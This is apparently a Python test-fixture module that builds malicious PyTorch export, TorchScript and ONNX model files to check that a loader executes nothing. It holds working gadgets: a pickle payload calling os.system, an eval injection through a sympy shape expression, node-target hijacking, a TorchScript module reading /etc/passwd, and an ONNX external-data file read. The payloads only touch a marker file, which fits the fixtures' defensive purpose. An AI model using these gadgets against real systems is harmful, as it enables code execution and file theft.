"""Real attack artifacts, rebuilt from real exports: each would run code or read files if loaded naively.

Every payload writes a marker file when it runs, so a test can prove that nothing ran.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from pathlib import Path

import torch


class MarkerPayload:
    """Unpickling this runs `open(marker, 'w')`: the classic pickle code-execution gadget."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (os.system, (f"touch {self.marker}",))


class Small(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.linear = torch.nn.Linear(4, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(self.linear(x)) + torch.tensor([1.0, 2.0, 3.0])


def real_pt2() -> bytes:
    program = torch.export.export(Small().eval(), (torch.randn(2, 4),),
                                  dynamic_shapes=({0: torch.export.Dim("batch", max=64)},))
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    return buffer.getvalue()


def rewrite_zip(data: bytes, edit: dict[str, bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    """The same archive with entries (relative to its top folder) replaced, dropped (None) or added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    prefix = source.namelist()[0].split("/", 1)[0]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            inner = info.filename[len(prefix) + 1:]
            if inner in edit:
                if edit[inner] is not None:
                    target.writestr(info.filename, edit[inner])  # type: ignore[arg-type]
            else:
                target.writestr(info, source.read(info))
        for inner, content in (add or {}).items():
            target.writestr(f"{prefix}/{inner}", content)
    return out.getvalue()


def _read(data: bytes, inner: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    prefix = source.namelist()[0].split("/", 1)[0]
    return source.read(f"{prefix}/{inner}")


def pt2_pickled_constant(marker: Path) -> bytes:
    """The lifted constant stored with use_pickle=true: torch.export.load calls torch.load(weights_only=False)."""
    data = real_pt2()
    config = json.loads(_read(data, "data/constants/model_constants_config.json"))
    for meta in config["config"].values():
        meta["use_pickle"] = True
    return rewrite_zip(data, {"data/constants/model_constants_config.json": json.dumps(config).encode(),
                              "data/constants/tensor_0": pickle.dumps(MarkerPayload(marker))})


def pt2_opaque_constant(marker: Path) -> bytes:
    """A constant named opaque_obj_0: torch.export.load calls pickle.loads on it."""
    data = real_pt2()
    config = json.loads(_read(data, "data/constants/model_constants_config.json"))
    for meta in config["config"].values():
        meta["path_name"] = "opaque_obj_0"
        meta["tensor_meta"] = None
    return rewrite_zip(data, {"data/constants/model_constants_config.json": json.dumps(config).encode(),
                              "data/constants/tensor_0": None},
                       add={"data/constants/opaque_obj_0": pickle.dumps(MarkerPayload(marker))})


def pt2_pickled_sample_inputs(marker: Path) -> bytes:
    """Sample inputs replaced by a plain pickle: torch falls back to torch.load(weights_only=False)."""
    return rewrite_zip(real_pt2(), {"data/sample_inputs/model.pt": pickle.dumps(MarkerPayload(marker))})


def pt2_aotinductor() -> bytes:
    return rewrite_zip(real_pt2(), {}, add={"aotinductor/model/model.so": b"\x7fELF not really"})


def pt2_sympy_code(marker: Path) -> bytes:
    """A symbolic size whose expression is Python: torch parses it with sympy.sympify (eval)."""
    data = real_pt2()
    program = json.loads(_read(data, "models/model.json"))
    evil = f"__import__('os').system('touch {marker}') or Symbol('s77', positive=True, integer=True)"
    text = json.dumps(program).replace("Symbol('s77', positive=True, integer=True)", evil.replace("'", "\\'"))
    text = json.dumps(program).replace('"Symbol(\'s77\', positive=True, integer=True)"', json.dumps(evil))
    return rewrite_zip(data, {"models/model.json": text.encode()})


def pt2_node_target(target: str) -> bytes:
    """A graph node re-pointed at another callable (the deserializer resolves it with getattr on torch)."""
    data = real_pt2()
    program = json.loads(_read(data, "models/model.json"))
    program["graph_module"]["graph"]["nodes"][0]["target"] = target
    return rewrite_zip(data, {"models/model.json": json.dumps(program).encode()})


class ReadsFiles(torch.nn.Module):
    """Returns the first bytes of any file on the serving node (here /etc/passwd)."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        leaked = torch.from_file("/etc/passwd", shared=False, size=16, dtype=torch.uint8)
        return x + leaked[:4].to(torch.float32)


def torchscript_from_file() -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(ReadsFiles()), buffer)
    return buffer.getvalue()


def real_torchscript() -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Small().eval()), buffer)
    return buffer.getvalue()


def onnx_external_data(target: Path) -> bytes:
    """An initializer whose bytes live in `target`, a file outside the model (another artifact, say)."""
    from onnx import TensorProto, helper

    weight = TensorProto(name="w", data_type=TensorProto.UINT8, dims=[16])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", str(target)), ("offset", "0"), ("length", "16")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "leak", [],
                              [helper.make_tensor_value_info("y", TensorProto.UINT8, [16])], [weight])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()


def onnx_custom_domain() -> bytes:
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("RunShell", ["x"], ["y"], domain="evil.ops")], "custom",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 4])])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17),
                                                    helper.make_opsetid("evil.ops", 1)]).SerializeToString()
